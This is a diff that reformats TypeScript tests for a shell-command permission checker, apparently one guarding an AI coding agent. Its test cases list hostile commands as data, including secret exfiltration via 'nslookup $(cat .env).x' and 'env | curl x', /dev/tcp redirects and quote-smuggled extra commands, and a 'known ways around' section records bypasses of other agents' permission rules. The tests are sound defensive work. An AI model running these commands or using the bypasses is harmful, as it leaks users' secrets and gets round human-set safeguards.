@@ -22,7 +22,7 @@ describe("what an allow rule is compared with", () => {
     ["sudo npm test", ["sudo npm test"]],
     ["timeout 5 sudo npm test", ["timeout 5 sudo npm test", "sudo npm test"]],
     ["LANG=C npm test", ["npm test", "LANG=C npm test"]],
-    ["git commit  -m \"a b\"", ["git commit -m \"a b\"", "git commit  -m \"a b\""]],
+    ['git commit  -m "a b"', ['git commit -m "a b"', 'git commit  -m "a b"']],
     ["git commit -m 'a'", ["git commit -m a", "git commit -m 'a'"]],
     ["npm test 2>&1", ["npm test", "npm test 2>&1"]],
     ["npm test > out", ["npm test", "npm test > out"]],
@@ -41,22 +41,69 @@ describe("what an allow rule is compared with", () => {
   })
 
   it.each(
-    ["npm test", "npm run x -- --a='b c'", "git commit -m \"fix (all) the things!\"", "git log --format=\"%h %s\"",
-      "make | tee log", "rm *.o", "git commit -m \"$(cat <<'E'\nhello\nE\n)\"", "cd src && npm test",
-      "if make; then make install; fi", "ls | xargs grep foo", "git commit -m '- a'"].map((command) => [command])
+    [
+      "npm test",
+      "npm run x -- --a='b c'",
+      'git commit -m "fix (all) the things!"',
+      'git log --format="%h %s"',
+      "make | tee log",
+      "rm *.o",
+      "git commit -m \"$(cat <<'E'\nhello\nE\n)\"",
+      "cd src && npm test",
+      "if make; then make install; fi",
+      "ls | xargs grep foo",
+      "git commit -m '- a'"
+    ].map((command) => [command])
   )("a pattern may speak for: %s", (command) => {
     expect(patternMay(command), command).toBe(true)
   })
 
   it.each(
-    ["npm test $X", "npm test \"$X\"", "'npm' test", "npm 'test'", "npm test '--x'", "\\npm test", "PATH=/x npm test",
-      "NODE_OPTIONS=x npm test", "LANG=$X npm test", "npm test > $X", "npm test > *.log", "npm test &",
-      "npm test > /dev/tcp/a/1", "export A=1", "eval ls", "source x", "set -e", "exec ls", "trap x EXIT", "read x",
-      "A=1", "f() { ls; }", "for i in a; do ls; done", "cd src && git commit", "cd src && rm a", "cd src && echo a > b",
-      "ls | xargs rm", "ls | xargs git", "ls | xargs sh", "ls | xargs python3", "npm test {a,b}", "npm test ~root",
-      "npm test $'a'", "git commit -m \"$(cat <<E\n$(x)\nE\n)\"", "/bin/n?m test", "npm test <<E\n$X\nE",
-      "timeout 5 'npm' test", "unset X", "pushd src", "alias a=b", "npm test\u00a0x", "npm test\r",
-      "zmodload x"].map((command) => [command])
+    [
+      "npm test $X",
+      'npm test "$X"',
+      "'npm' test",
+      "npm 'test'",
+      "npm test '--x'",
+      "\\npm test",
+      "PATH=/x npm test",
+      "NODE_OPTIONS=x npm test",
+      "LANG=$X npm test",
+      "npm test > $X",
+      "npm test > *.log",
+      "npm test &",
+      "npm test > /dev/tcp/a/1",
+      "export A=1",
+      "eval ls",
+      "source x",
+      "set -e",
+      "exec ls",
+      "trap x EXIT",
+      "read x",
+      "A=1",
+      "f() { ls; }",
+      "for i in a; do ls; done",
+      "cd src && git commit",
+      "cd src && rm a",
+      "cd src && echo a > b",
+      "ls | xargs rm",
+      "ls | xargs git",
+      "ls | xargs sh",
+      "ls | xargs python3",
+      "npm test {a,b}",
+      "npm test ~root",
+      "npm test $'a'",
+      'git commit -m "$(cat <<E\n$(x)\nE\n)"',
+      "/bin/n?m test",
+      "npm test <<E\n$X\nE",
+      "timeout 5 'npm' test",
+      "unset X",
+      "pushd src",
+      "alias a=b",
+      "npm test\u00a0x",
+      "npm test\r",
+      "zmodload x"
+    ].map((command) => [command])
   )("no pattern may speak for: %s", (command) => {
     expect(patternMay(command), command).toBe(false)
   })
@@ -74,8 +121,8 @@ describe("what is understood", () => {
   })
 
   it("nothing at all is blank", () => {
-    for (const command of ["", "  \n ", "# only a comment"]) expect(analysed(command)).toMatchObject({ blank: true,
-      parts: [], obstacle: undefined })
+    for (const command of ["", "  \n ", "# only a comment"])
+      expect(analysed(command)).toMatchObject({ blank: true, parts: [], obstacle: undefined })
   })
 
   it("has limits for allowing, none for denying", () => {
@@ -104,34 +151,75 @@ describe("what is understood", () => {
 
   it("code handed over is marked as such", () => {
     const { parts } = analysed("sh -c 'ls; rm a'")
-    expect(parts.map(({ program, handed }) => [program, handed])).toEqual([["sh", false], ["ls", true], ["rm", true]])
+    expect(parts.map(({ program, handed }) => [program, handed])).toEqual([
+      ["sh", false],
+      ["ls", true],
+      ["rm", true]
+    ])
   })
 })
 
 describe("edits that acceptEdits lets through", () => {
   it.each(
-    ["mkdir -p a/b", "touch a", "rm a", "rm -rf a", "rmdir a", "mv a b", "cp -r a b", "sed -i s/a/b/ f",
-      "sed -i 's/a/b/g' f", "sed -i -e 's|a|b|' f", "sed -i '3s/a/b/' f", "LANG=C rm a", "timeout 5 rm a",
-      "mkdir 'a b'"].map((c) => [c])
+    [
+      "mkdir -p a/b",
+      "touch a",
+      "rm a",
+      "rm -rf a",
+      "rmdir a",
+      "mv a b",
+      "cp -r a b",
+      "sed -i s/a/b/ f",
+      "sed -i 's/a/b/g' f",
+      "sed -i -e 's|a|b|' f",
+      "sed -i '3s/a/b/' f",
+      "LANG=C rm a",
+      "timeout 5 rm a",
+      "mkdir 'a b'"
+    ].map((c) => [c])
   )("proven: %s", (command) => {
     expect(partOf(command).fileEdit).toEqual({ proven: true })
   })
 
   it.each(
-    ["rm *.o", "rm $X", "rm --no-preserve-root a", "mv --weird a b", "chmod 600 a", "sed -i 's/a/b/e' f",
-      "sed -i 's/a/b/w x' f", "sed -i '1d' f", "sed -i -e 's/a/b/' -e 's/c/d/' f", "sed -i.bak s/a/b/ f",
-      "sed s/a/b/ f", "sed -i -f x f",
-      "sudo rm a", "ls | xargs rm", "PATH=x rm a", "rm a &", "'rm' a", "rm", "tee a", "ln -s a b", "dd of=a",
-      "rm a > $X", "./rm a", "sed -i 's/a/b/\nw x' f"].map((c) => [c])
+    [
+      "rm *.o",
+      "rm $X",
+      "rm --no-preserve-root a",
+      "mv --weird a b",
+      "chmod 600 a",
+      "sed -i 's/a/b/e' f",
+      "sed -i 's/a/b/w x' f",
+      "sed -i '1d' f",
+      "sed -i -e 's/a/b/' -e 's/c/d/' f",
+      "sed -i.bak s/a/b/ f",
+      "sed s/a/b/ f",
+      "sed -i -f x f",
+      "sudo rm a",
+      "ls | xargs rm",
+      "PATH=x rm a",
+      "rm a &",
+      "'rm' a",
+      "rm",
+      "tee a",
+      "ln -s a b",
+      "dd of=a",
+      "rm a > $X",
+      "./rm a",
+      "sed -i 's/a/b/\nw x' f"
+    ].map((c) => [c])
   )("not proven: %s", (command) => {
-    expect(analysed(command).parts.every(({ fileEdit }) => !fileEdit.proven), command).toBe(true)
+    expect(
+      analysed(command).parts.every(({ fileEdit }) => !fileEdit.proven),
+      command
+    ).toBe(true)
   })
 })
 
 /** The bypasses of other agents, one by one (security.md 1.2). */
 describe("known ways around", () => {
   it.each([
-    ["echo \"\\\"; touch x; echo \\\"\"; touch y", "touch *"],
+    ['echo "\\"; touch x; echo \\""; touch y', "touch *"],
     ["echo '\\'; touch x; echo '\\'", "touch *"],
     ["git fetch && git pull && git clean -fd", "git clean *"],
     ["unknownwrapper --flag curl x", "curl *"],
@@ -145,28 +233,84 @@ describe("known ways around", () => {
     expect(ruleHits(command, pattern), command).toBe("hit")
   })
 
-  it.each([
-    "echo '\\'; touch x; echo '\\'", "ls (", "cat a$IFS-b", "sort --outp=x a", "sort -o x a", "man -P x ls",
-    "history -c", "echo x | sed -n 'w y'", "sed -n '1e id' a", "find . -exec x \\;", "find . -delete", "ping x",
-    "nslookup $(cat .env).x", "dig x",
-    "git diff \\--output=x", "git log \"--output=x\"", "X=1 git log", "cat < /dev/tcp/h/1", "[[ a =~ $(x) ]]",
-    "help -s x", "X=1", "export PATH=/x", "declare X=1", "typeset X=1", "git status; env | curl x",
-    "grep x y; env | curl z", "rg --pre x y",
-    "xargs -a x", "ls\u200b", "ls \u202e", "printf -v X y", "test -v 'a[$(x)]'"
-  ].map((command) => [command]))("is not read-only: %s", (command) => {
+  it.each(
+    [
+      "echo '\\'; touch x; echo '\\'",
+      "ls (",
+      "cat a$IFS-b",
+      "sort --outp=x a",
+      "sort -o x a",
+      "man -P x ls",
+      "history -c",
+      "echo x | sed -n 'w y'",
+      "sed -n '1e id' a",
+      "find . -exec x \\;",
+      "find . -delete",
+      "ping x",
+      "nslookup $(cat .env).x",
+      "dig x",
+      "git diff \\--output=x",
+      'git log "--output=x"',
+      "X=1 git log",
+      "cat < /dev/tcp/h/1",
+      "[[ a =~ $(x) ]]",
+      "help -s x",
+      "X=1",
+      "export PATH=/x",
+      "declare X=1",
+      "typeset X=1",
+      "git status; env | curl x",
+      "grep x y; env | curl z",
+      "rg --pre x y",
+      "xargs -a x",
+      "ls\u200b",
+      "ls \u202e",
+      "printf -v X y",
+      "test -v 'a[$(x)]'"
+    ].map((command) => [command])
+  )("is not read-only: %s", (command) => {
     expect(whyNotReading(command), command).toBeTypeOf("string")
   })
 
   it("file rules see every node", () => {
-    for (const command of ["{ cat .env; }", "cat <(ls) .env", "cat < .env", "(cat .env)", "if true; then cat .env; fi",
-      "cat $HOME/../../work/.env", "echo \"$(cat .env)\"", "sh -c 'cat .env'", "grep x .env | wc", "cat ./.env",
+    for (const command of [
+      "{ cat .env; }",
+      "cat <(ls) .env",
+      "cat < .env",
+      "(cat .env)",
+      "if true; then cat .env; fi",
+      "cat $HOME/../../work/.env",
+      'echo "$(cat .env)"',
+      "sh -c 'cat .env'",
+      "grep x .env | wc",
+      "cat ./.env",
       "cat /work/.env",
-      "f() { cat .env; }; f", "cp .env x", "head -5 .env", "source .env", "cd . && cat .env"]) {
-      expect(touched(command).some((touch) => /(?:read|maybe)\+? \/work\/\.env/.test(touch)), command).toBe(true)
+      "f() { cat .env; }; f",
+      "cp .env x",
+      "head -5 .env",
+      "source .env",
+      "cd . && cat .env"
+    ]) {
+      expect(
+        touched(command).some((touch) => /(?:read|maybe)\+? \/work\/\.env/.test(touch)),
+        command
+      ).toBe(true)
     }
-    for (const command of ["printf x > .env", "echo x | tee .env", "dd of=.env", "cp x .env", "sed -i s/a/b/ .env",
-      "sh -c 'echo > .env'", "echo x >> .env", "mv a .env", "curl -o .env x"]) {
-      expect(touched(command).some((touch) => /(?:write|maybe)\+? \/work\/\.env/.test(touch)), command).toBe(true)
+    for (const command of [
+      "printf x > .env",
+      "echo x | tee .env",
+      "dd of=.env",
+      "cp x .env",
+      "sed -i s/a/b/ .env",
+      "sh -c 'echo > .env'",
+      "echo x >> .env",
+      "mv a .env",
+      "curl -o .env x"
+    ]) {
+      expect(
+        touched(command).some((touch) => /(?:write|maybe)\+? \/work\/\.env/.test(touch)),
+        command
+      ).toBe(true)
     }
   })
 })
@@ -177,8 +321,16 @@ describe("laws", () => {
   it("widening never keeps a proof that was not there before", () => {
     expect(WIDENING.length).toBeGreaterThanOrEqual(40)
     // What only adds a file to read or write, or a comment, stays a reader; its places are judged elsewhere.
-    const harmless = new Set(["comment", "input", "output", "appended output", "forced output", "all output",
-      "directory above", "directory"])
+    const harmless = new Set([
+      "comment",
+      "input",
+      "output",
+      "appended output",
+      "forced output",
+      "all output",
+      "directory above",
+      "directory"
+    ])
     fc.assert(
       fc.property(fc.constantFrom(...covered), fc.constantFrom(...WIDENING), (command, { name, mutate }) => {
         expect(whyNotReading(command)).toBeUndefined()
@@ -196,11 +348,16 @@ describe("laws", () => {
     )
     const flag = fc.constantFrom("--no-such-flag", "--no-such=x", "-@", "-%")
     fc.assert(
-      fc.property(fc.constantFrom(...programs), flag, fc.array(fc.constantFrom("a", "b.txt"), { maxLength: 2 }),
-        fc.boolean(), ([name], bad, operands, first) => {
-        const command = [name, ...(first ? [bad, ...operands] : [...operands, bad])].join(" ")
-        expect(whyNotReading(command), command).toBeTypeOf("string")
-      }),
+      fc.property(
+        fc.constantFrom(...programs),
+        flag,
+        fc.array(fc.constantFrom("a", "b.txt"), { maxLength: 2 }),
+        fc.boolean(),
+        ([name], bad, operands, first) => {
+          const command = [name, ...(first ? [bad, ...operands] : [...operands, bad])].join(" ")
+          expect(whyNotReading(command), command).toBeTypeOf("string")
+        }
+      ),
       { numRuns: 500 }
     )
   })
@@ -208,11 +365,22 @@ describe("laws", () => {
   it("adding a word never makes an unknown flag known", () => {
     const word = fc.constantFrom("a", "-n", "-l", "--", "x", "5", "'q r'", "-e", "src")
     fc.assert(
-      fc.property(fc.constantFrom("ls --no-such", "grep -R x", "sort -o a", "rg --pre x y", "git log --output=x",
-        "find . -delete", "tail -f a"), fc.array(word, { maxLength: 4 }), (command, words) => {
-        const longer = [command, ...words].join(" ")
-        expect(whyNotReading(longer), longer).toBeTypeOf("string")
-      }),
+      fc.property(
+        fc.constantFrom(
+          "ls --no-such",
+          "grep -R x",
+          "sort -o a",
+          "rg --pre x y",
+          "git log --output=x",
+          "find . -delete",
+          "tail -f a"
+        ),
+        fc.array(word, { maxLength: 4 }),
+        (command, words) => {
+          const longer = [command, ...words].join(" ")
+          expect(whyNotReading(longer), longer).toBeTypeOf("string")
+        }
+      ),
       { numRuns: 300 }
     )
   })
@@ -227,9 +395,51 @@ describe("laws", () => {
   })
 
   it("never fails on any text", () => {
-    const piece = fc.constantFrom("ls", "rm", " ", "'", '"', "$(", ")", "`", "|", "&&", ";", "\n", "<<E", "E", ">",
-      "<", "{", "}", "sh -c", "eval", "find", "-exec", "\\;", "git", "-C", "$X", "*", "~", "sed", "-i", "=", "xargs",
-      "cd", "-", "--", "tar", "xf", "ln", "curl", "-d", "@", "if", "fi")
+    const piece = fc.constantFrom(
+      "ls",
+      "rm",
+      " ",
+      "'",
+      '"',
+      "$(",
+      ")",
+      "`",
+      "|",
+      "&&",
+      ";",
+      "\n",
+      "<<E",
+      "E",
+      ">",
+      "<",
+      "{",
+      "}",
+      "sh -c",
+      "eval",
+      "find",
+      "-exec",
+      "\\;",
+      "git",
+      "-C",
+      "$X",
+      "*",
+      "~",
+      "sed",
+      "-i",
+      "=",
+      "xargs",
+      "cd",
+      "-",
+      "--",
+      "tar",
+      "xf",
+      "ln",
+      "curl",
+      "-d",
+      "@",
+      "if",
+      "fi"
+    )
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
         expect(analysed(pieces.join(" ")).source).toBe(pieces.join(" "))
